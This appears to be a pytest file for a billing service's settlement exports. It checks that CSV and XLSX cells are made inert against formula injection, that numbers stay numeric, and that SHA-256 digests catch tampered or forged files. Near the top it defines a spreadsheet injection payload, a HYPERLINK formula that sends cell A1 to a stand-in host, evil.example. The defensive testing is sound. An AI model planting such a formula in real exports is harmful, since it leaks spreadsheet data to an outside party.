"""Settlement exports against a hostile name and a tampering reader (issue 13 #10, #22): every text cell that a
spreadsheet programme would run as a formula is inert text in CSV and XLSX, numbers stay numbers, and each export
carries the SHA-256 of its canonical content (in the file, an HTTP header and the audit record) that
`vnh billing verify-export` checks."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from billing import service as billing
from billing.commands import verify_export_issued
from billing.export import _csv_cells
from kernel.audit import AuditEntry
from kernel.clock import ManualClock
from kernel.exports import CSV_DIGEST_LABEL, CSV_TABLE, ContentDigest, inert, verify_export, xlsx_text
from kernel.runtime import Runtime
from tests.billing.support import Order, create_program, visit_of
from tests.conftest import login_headers
from tests.factories import HANGGIN, create_organization, elder_payload
from vnh.cli import main

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.mark.parametrize("text", ["=1+1", "+86 139", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1"])
def test_text_that_starts_a_formula_is_quoted(text: str) -> None:
    assert inert(text) == "'" + text
    assert xlsx_text(text) == "'" + text


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert inert(-1250) == -1250 and inert(12.5) == 12.5 and inert(None) is None
    assert inert("王宝音") == "王宝音" and inert("a=b") == "a=b"
    assert xlsx_text("王\x00宝\x1f音") == "王宝音"  # XML cannot carry them (openpyxl refused: a 500)
    row: list[object] = [""] * 17
    row[9], row[13], row[14], row[15] = "-退款", -1250, 0, -1250
    cells = _csv_cells(row)
    assert cells[9] == "'-退款" and (cells[13], cells[14], cells[15]) == ("-12.50", "0.00", "-12.50")


async def _statement(runtime: Runtime, client: httpx.AsyncClient, admin: dict[str, str]) -> tuple[str, dict[str, str]]:
    created = await client.post("/v1/elders", headers=admin, json=elder_payload(name=EVIL))
    assert created.status_code == 201, created.text
    elder_id = created.json()["id"]
    program = await create_program(runtime, name="@杭锦旗居家养老")
    org = await create_organization(runtime, name="-1+1 服务中心")
    clock = runtime.clock
    assert isinstance(clock, ManualClock)
    for _ in range(2):
        order = Order(__import__("uuid").UUID(elder_id), price_fen=4500)
        async with runtime.database.unit_of_work() as s:
            await billing.quote_and_reserve(s, clock, order)
            await billing.capture(s, clock, visit_of(order, org, checked_out_at=clock.now()))
    finance = await login_headers(runtime, "finance", region_code=HANGGIN)
    drafted = await client.post("/v1/settlements", headers=finance, json={
        "program_id": str(program.id), "organization_id": str(org.id), "month": "2026-03"})
    assert drafted.status_code == 201, drafted.text
    return drafted.json()["id"], finance


async def test_a_hostile_elder_name_is_inert_text_in_both_exports(runtime: Runtime, client: httpx.AsyncClient,
                                                                  admin_headers: dict[str, str]) -> None:
    statement_id, finance = await _statement(runtime, client, admin_headers)

    exported = await client.get(f"/v1/settlements/{statement_id}/export?format=csv", headers=finance)
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    lines = [r for r in rows if r[0].isdigit()]
    assert len(lines) == 2 and all(r[9] == "'" + EVIL for r in lines)
    assert all(r[2] == "'@杭锦旗居家养老" and r[3] == "'-1+1 服务中心" for r in lines)
    assert lines[0][13:16] == ["45.00", "40.50", "4.50"]  # amounts are numbers, not quoted text

    workbook = await client.get(f"/v1/settlements/{statement_id}/export?format=xlsx", headers=finance)
    assert workbook.status_code == 200
    with zipfile.ZipFile(io.BytesIO(workbook.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = load_workbook(io.BytesIO(workbook.content))
    detail = book["结算明细"]
    names = [detail.cell(row=r, column=10) for r in (2, 3)]
    assert all(c.value == "'" + EVIL and c.data_type == "s" for c in names)
    assert detail.cell(row=2, column=14).value == 45.0 and detail.cell(row=2, column=14).data_type == "n"
    summary = book["结算汇总"]
    assert summary["A1"].value.startswith("'@") and summary["B4"].value == "'-1+1 服务中心"


async def test_exports_carry_a_digest_that_verify_export_checks(runtime: Runtime, client: httpx.AsyncClient,
                                                                admin_headers: dict[str, str], tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    statement_id, finance = await _statement(runtime, client, admin_headers)
    digests = {}
    for fmt in ("csv", "xlsx"):
        answer = await client.get(f"/v1/settlements/{statement_id}/export?format={fmt}", headers=finance)
        assert answer.status_code == 200
        digest = answer.headers["x-content-sha256"]
        assert answer.headers["repr-digest"].startswith("sha-256=:")
        verdict = verify_export(answer.content)
        assert verdict.intact and verdict.recorded == digest, verdict.message
        (tmp_path / f"s.{fmt}").write_bytes(answer.content)
        digests[fmt] = digest
    async with runtime.database.unit_of_work() as s:
        audited = (await s.scalars(select(AuditEntry).where(AuditEntry.action == "settlement.export",
                                                            AuditEntry.entity_id == statement_id))).all()
    assert sorted(a.summary["content_sha256"] for a in audited) == sorted(digests.values())

    for fmt in ("csv", "xlsx"):
        assert main(["billing", "verify-export", str(tmp_path / f"s.{fmt}")]) == 0
        assert "intact" in capsys.readouterr().out

    # a reader edits one amount in the CSV
    text = (tmp_path / "s.csv").read_bytes().decode("utf-8-sig")
    assert ",45.00," in text
    (tmp_path / "altered.csv").write_bytes(("\ufeff" + text.replace(",45.00,", ",54.00,", 1)).encode())
    assert main(["billing", "verify-export", str(tmp_path / "altered.csv")]) == 1
    assert "ALTERED" in capsys.readouterr().out

    # a workbook saved again untouched stays intact; one changed cell does not
    book = load_workbook(tmp_path / "s.xlsx")
    book.save(tmp_path / "resaved.xlsx")
    assert main(["billing", "verify-export", str(tmp_path / "resaved.xlsx")]) == 0
    book["结算明细"].cell(row=2, column=15).value = 45.0
    book.save(tmp_path / "altered.xlsx")
    assert main(["billing", "verify-export", str(tmp_path / "altered.xlsx")]) == 1
    assert "ALTERED" in capsys.readouterr().out

    # a digest row removed (or never there) is no proof of anything
    (tmp_path / "bare.csv").write_bytes(("\ufeff" + text.rsplit("完整性校验", 1)[0]).encode())
    assert main(["billing", "verify-export", str(tmp_path / "bare.csv")]) == 1
    assert "no SHA-256 digest" in capsys.readouterr().out
    assert main(["billing", "verify-export", str(tmp_path / "missing.csv")]) == 2


async def test_a_rewritten_digest_passes_the_file_check_but_not_the_audit_log(
        runtime: Runtime, client: httpx.AsyncClient, admin_headers: dict[str, str], tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    statement_id, finance = await _statement(runtime, client, admin_headers)
    answer = await client.get(f"/v1/settlements/{statement_id}/export?format=csv", headers=finance)
    (tmp_path / "s.csv").write_bytes(answer.content)
    assert await verify_export_issued(runtime, tmp_path / "s.csv") == 0
    assert f"settlement {statement_id}" in capsys.readouterr().out
    # the forger edits an amount and writes the digest of the new content into the file
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))[:-1]
    rows[1][13] = "54.00"
    digest = ContentDigest()
    digest.add_all(CSV_TABLE, rows)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([*rows, [CSV_DIGEST_LABEL, digest.hexdigest()]])
    (tmp_path / "forged.csv").write_bytes(("\ufeff" + buffer.getvalue()).encode())
    assert main(["billing", "verify-export", str(tmp_path / "forged.csv")]) == 0  # self-consistent
    capsys.readouterr()
    assert await verify_export_issued(runtime, tmp_path / "forged.csv") == 1
    assert "NOT ISSUED" in capsys.readouterr().out


def test_the_digest_covers_every_cell_and_not_the_formatting() -> None:
    one, same, other = ContentDigest(), ContentDigest(), ContentDigest()
    one.add_all("t", [["a", 1, 45.0, None], ["b"]])
    same.add_all("t", [["a", "1", 45, "", ""], ["b", None]])  # as a padded sheet reads it back
    other.add_all("t", [["a", 1, 45.0], ["c"]])
    assert one.hexdigest() == same.hexdigest() != other.hexdigest()
